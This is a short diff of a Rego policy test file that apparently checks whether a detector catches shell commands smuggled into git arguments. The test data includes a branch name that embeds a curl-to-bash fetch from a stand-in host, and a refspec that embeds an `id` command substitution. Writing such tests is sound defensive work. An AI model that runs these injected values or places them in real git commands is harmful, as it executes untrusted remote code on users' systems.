@@ -13,7 +13,6 @@ run(arguments, ancestry) := {
 	"baseline": {"stable": true, "known": true, "program_known": true, "reopened": ""},
 }
 
-
 test_commands_in_names_are_caught if {
 	every arguments in [
 		["git", "checkout", "--progress", "-B", "$({curl,-sSfL,x.example.test/f}${IFS}|${IFS}bash)"], ["git", "-c", "protocol.version=2", "fetch", "origin", "+refs/heads/a`id`:refs/x"],
